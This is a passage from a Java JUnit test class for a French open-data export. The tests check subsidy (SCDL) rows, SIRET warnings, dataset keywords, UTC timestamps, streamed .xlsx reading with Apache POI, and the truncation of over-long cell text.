    void aLongObjetIsCutWithAWarningNamingTheConvention() throws IOException {
        String objet = scdlRow("2024-07-01").get("objet");
        assertTrue(LONG_SUMMARY.length() > 256);
        assertEquals(256, objet.codePointCount(0, objet.length()), objet);
        assertEquals(LONG_SUMMARY.substring(0, 255) + "…", objet);
        List<String> warnings = run.diagnostics().stream().filter(d -> d.contains(": warning: ")
                && d.contains("cerema-subvention-dgpr") && d.contains("objet")).toList();
        assertEquals(1, warnings.size(), run.err());
        assertTrue(warnings.get(0).contains(LONG_SUMMARY.length() + " characters, SCDL allows 256"), warnings.get(0));
    }

    /** A configured SIRET that fails a key is not « missing »: the warning says which key failed. */
    @Test
    void aSiretSettingWithAWrongSirenKeyIsReportedAsSuch() {
        List<String> warnings = run.diagnostics().stream().filter(d -> d.contains(": warning: ")
                && d.contains("vitrine.siret.dgs=" + BAD_SIREN_KEY)).toList();
        assertEquals(1, warnings.size(), run.err());
        assertTrue(warnings.get(0).contains("is invalid: the SIREN's key (its first nine digits) is wrong"), warnings.get(0));
        assertFalse(warnings.get(0).contains("no SIRET"), warnings.get(0));
    }

    /** data.gouv.fr's regulatory format asks a dataset holding subsidies to carry the keyword « subvention ». */
    @Test
    void aDatasetHoldingSubsidiesCarriesTheKeywordSubvention() throws IOException {
        JsonNode udata = JSON.readTree(donnees.resolve("udata.json").toFile());
        List<String> tags = new ArrayList<>();
        udata.path("dataset").path("tags").forEach(t -> tags.add(t.asText()));
        assertTrue(tags.contains("subvention"), tags.toString());
        List<String> keywords = new ArrayList<>();
        JSON.readTree(donnees.resolve("datapackage.json").toFile()).path("keywords").forEach(k -> keywords.add(k.asText()));
        assertTrue(keywords.contains("subvention"), keywords.toString());
    }

    /**
     * {@code created} (Data Package) and the spreadsheets' {@code dcterms:created}/{@code modified}: the instant the
     * data's day began in Paris, in UTC, never the Paris date labelled as UTC midnight (in the future until 1 or 2 am).
     */
    @Test
    void creationTimesAreTrueUtcInstants() throws IOException {
        JsonNode pkg = JSON.readTree(donnees.resolve("datapackage.json").toFile());
        LocalDate day = LocalDate.parse(pkg.path("version").asText());
        java.time.Instant expected = day.atStartOfDay(java.time.ZoneId.of("Europe/Paris")).toInstant();
        assertEquals(expected, java.time.Instant.parse(pkg.path("created").asText()));
        for (Path xlsx : OpenDataTest.publishableFiles(donnees).stream().filter(f -> f.endsWith(".xlsx")).sorted()
                .map(donnees::resolve).toList()) {
            try (ZipFile zip = new ZipFile(xlsx.toFile())) {
                String core = new String(zip.getInputStream(zip.getEntry("docProps/core.xml")).readAllBytes(),
                        StandardCharsets.UTF_8);
                java.util.regex.Matcher m = java.util.regex.Pattern.compile(
                        "<dcterms:(created|modified)[^>]*>([^<]*)<").matcher(core);
                int found = 0;
                while (m.find()) {
                    assertEquals(expected, java.time.Instant.parse(m.group(2)), xlsx + " " + m.group(1));
                    found++;
                }
                assertTrue(found >= 1, xlsx + ": " + core);
            }
        }
    }

    /**
     * Every .xlsx read by a second, independent reader in streaming mode (Apache POI's SAX event API, as big files are
     * read): each sheet's declared dimension is the range of its cells (a reader trusting it sees every cell), and
     * the data sheet has the CSV's header and as many rows.
     */
    @Test
    void everySpreadsheetReadsWholeInPoisStreamingMode() throws Exception {
        List<Path> files = OpenDataTest.publishableFiles(donnees).stream().filter(f -> f.endsWith(".xlsx")).sorted()
                .map(donnees::resolve).toList();
        assertTrue(files.size() >= 8, files.toString());
        for (Path file : files) {
            try (org.apache.poi.openxml4j.opc.OPCPackage pkg = org.apache.poi.openxml4j.opc.OPCPackage.open(
                    file.toFile(), org.apache.poi.openxml4j.opc.PackageAccess.READ)) {
                var reader = new org.apache.poi.xssf.eventusermodel.XSSFReader(pkg);
                var strings = new org.apache.poi.xssf.eventusermodel.ReadOnlySharedStringsTable(pkg);
                var sheets = (org.apache.poi.xssf.eventusermodel.XSSFReader.SheetIterator) reader.getSheetsData();
                int index = 0;
                while (sheets.hasNext()) {
                    StreamedSheet sheet = new StreamedSheet();
                    try (InputStream in = sheets.next()) {
                        var parser = javax.xml.parsers.SAXParserFactory.newInstance();
                        parser.setNamespaceAware(true);
                        var xml = parser.newSAXParser().getXMLReader();
                        xml.setContentHandler(new org.apache.poi.xssf.eventusermodel.XSSFSheetXMLHandler(
                                reader.getStylesTable(), strings, sheet, false) {
                            @Override
                            public void startElement(String uri, String local, String qName,
                                                     org.xml.sax.Attributes attributes) throws org.xml.sax.SAXException {
                                if (local.equals("dimension")) {
                                    sheet.dimension = attributes.getValue("ref");
                                }
                                super.startElement(uri, local, qName, attributes);
                            }
                        });
                        xml.parse(new org.xml.sax.InputSource(in));
                    }
                    String name = file.getFileName() + " / " + sheets.getSheetName();
                    assertEquals("A1:" + org.apache.poi.ss.util.CellReference.convertNumToColString(sheet.maxColumn)
                            + (sheet.maxRow + 1), sheet.dimension, name + ": the declared range");
                    if (index++ == 0) {
                        String csvFile = file.getFileName().toString().replace(".xlsx", ".csv");
                        List<String[]> csv = OpenDataTest.readCsv(donnees.resolve(csvFile));
                        assertEquals(csv.size(), sheet.rows.size(), name + ": rows, header included");
                        assertEquals(List.of(csv.get(0)), sheet.rows.get(0), name + ": header");
                    }
                }
                assertEquals(2, index, file + ": the data sheet and « Lisez-moi »");
            }
        }
    }

    /** POI's streaming callbacks: each row's formatted cells, and the extent of the cells. */
    static final class StreamedSheet implements org.apache.poi.xssf.eventusermodel.XSSFSheetXMLHandler.SheetContentsHandler {
        String dimension;
        int maxRow = -1;
        int maxColumn = -1;
        final List<List<String>> rows = new ArrayList<>();
        private List<String> row;

        @Override
        public void startRow(int rowNum) {
            row = new ArrayList<>();
            maxRow = Math.max(maxRow, rowNum);
        }

        @Override
        public void endRow(int rowNum) {
            rows.add(row);
        }

        @Override
        public void cell(String reference, String value, org.apache.poi.xssf.usermodel.XSSFComment comment) {
            var ref = new org.apache.poi.ss.util.CellReference(reference);
            maxColumn = Math.max(maxColumn, ref.getCol());
            while (row.size() < ref.getCol()) {
                row.add("");
            }
            row.add(value);
        }
    }

    /**
     * A text over a spreadsheet cell's 32 767 characters (about 48 000 were written before): cut in the .xlsx with a
     * French note giving its length, the CSV and JSON whole, and the cut named (record, column) for the build's warning.
     */
    @Test
    void aTextOverACellsLimitIsCutWithAMarkAndNamed(@TempDir Path dir) throws IOException {
        Table t = new Table("longs", "Longs", "Un texte très long.", List.of(Table.Field.of("id", "string", "Id", "Id."),
                Table.Field.of("texte", "string", "Texte", "Un texte.")), List.of(), List.of(), null, null);
        Metadata meta = new Metadata("n", "Titre", "Description.", List.of("k"), "Producteur", "https://exemple.fr/",
                "https://exemple.fr/", "https://exemple.fr/donnees/", "irregular", null, null, LocalDate.of(2025, 1, 1));
        String text = "Un article de convention qui se répète. ".repeat(1_200); // 48 000 characters
        assertEquals(48_000, text.length());
        List<Object[]> rows = List.of(new Object[] {"court", "Court."}, new Object[] {"convention-longue", text});
        List<Xlsx.Cut> cuts = DatasetWriter.write(new Tables.Data(t, rows), dir, meta);
        assertEquals(1, cuts.size(), cuts.toString());
        String message = cuts.get(0).message();
        assertTrue(message.contains("'convention-longue', column 'texte' has 48000 characters"), message);
        assertEquals(2, cuts.get(0).row(), "the spreadsheet's row of the record, after the header and the first");
        try (ReadableWorkbook wb = new ReadableWorkbook(dir.resolve("longs.xlsx").toFile())) {
            String cell = wb.getFirstSheet().read().get(2).getCell(1).asString();
            assertEquals(32_767, cell.length());
            assertTrue(cell.endsWith(" […] (texte tronqué : 48000 caractères au total, complet dans le fichier longs.csv)"),
                    cell.substring(32_600));
            assertTrue(text.startsWith(cell.substring(0, cell.indexOf(" […]"))));
        }
        assertEquals(text, OpenDataTest.readCsv(dir.resolve("longs.csv")).get(2)[1], "the CSV holds it whole");
        assertEquals(text, JSON.readTree(dir.resolve("longs.json").toFile()).get(1).get("texte").asText());
    }

    static Map<String, String> scdlRow(String dateConvention) throws IOException {
        List<String[]> rows = OpenDataTest.readCsv(donnees.resolve("subventions.csv"));
        for (String[] r : rows.subList(1, rows.size())) {
            if (List.of(r).contains(dateConvention)) {
                Map<String, String> m = new TreeMap<>();
                for (int i = 0; i < r.length; i++) {
                    m.put(rows.get(0)[i], r[i]);
                }
                return m;
            }
        }
        throw new AssertionError("no SCDL row signed " + dateConvention);
    }

    // ---- helpers ---------------------------------------------------------------------------------------------------

    static JsonNode schemaOf(JsonNode csvResource) throws IOException {
        String ref = csvResource.get("schema").asText();
        if (ref.startsWith("https://")) {
            // Official schemas: the columns' types as OpenDataTest transcribes them.
            return JSON.readTree(OpenDataTest.OFFICIAL_SCHEMAS.get(ref));
        }
        return JSON.readTree(donnees.resolve(ref).toFile());
    }

    static void assertText(Literal l) {
        assertTrue(XSD.STRING.equals(l.getDatatype()) || RDF.LANGSTRING.equals(l.getDatatype()),
                l + " is a string for udata");
    }

    static Value only(Model m, Resource s, IRI p) {
        Set<Value> objects = m.filter(s, p, null).objects();
        assertEquals(1, objects.size(), s + " " + p + ": " + objects);
        return objects.iterator().next();
    }

    static Literal literal(Model m, Resource s, IRI p) {
        Value v = only(m, s, p);
        if (v instanceof Literal l) {
            return l;
        }
        return fail(s + " " + p + " is not a literal: " + v);
    }

    static Model turtle() throws IOException {
        try (InputStream in = Files.newInputStream(donnees.resolve("catalog.ttl"))) {
            return Rio.parse(in, "http://localhost:8000/donnees/", RDFFormat.TURTLE);
        }
    }

    static Model jsonLd() throws IOException {
        ParserConfig config = new ParserConfig();
        config.set(JSONLDSettings.SECURE_MODE, true);
        config.set(JSONLDSettings.WHITELIST, Set.of());
        try (InputStream in = Files.newInputStream(donnees.resolve("catalog.jsonld"))) {
            return Rio.parse(in, "http://localhost:8000/donnees/", RDFFormat.JSONLD, config);
        }
    }
}
